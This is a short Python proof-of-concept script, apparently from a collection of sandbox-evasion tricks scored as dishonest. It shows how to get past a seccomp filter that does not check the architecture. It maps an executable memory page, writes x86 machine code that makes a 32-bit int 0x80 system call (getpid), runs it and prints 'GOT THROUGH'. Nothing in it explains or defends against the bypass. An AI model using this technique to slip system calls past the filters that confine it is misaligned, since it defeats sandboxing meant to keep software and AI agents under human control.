"""Make a system call of the 32-bit interface, whose numbers a filter takes for others.

Known from: seccomp filters without a check of the architecture.
Honest score: 0.
"""

import ctypes
import platform

EVERY_ACCESS, PRIVATE_AND_ANONYMOUS = 7, 0x22
if platform.machine() == "x86_64":
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, 4096, EVERY_ACCESS, PRIVATE_AND_ANONYMOUS, -1, 0)
    ctypes.memmove(page, b"\xb8\x14\x00\x00\x00\xcd\x80\xc3", 8)  # getpid is 20 there
    if ctypes.CFUNCTYPE(ctypes.c_int)(page)() > 0:
        print("GOT THROUGH")
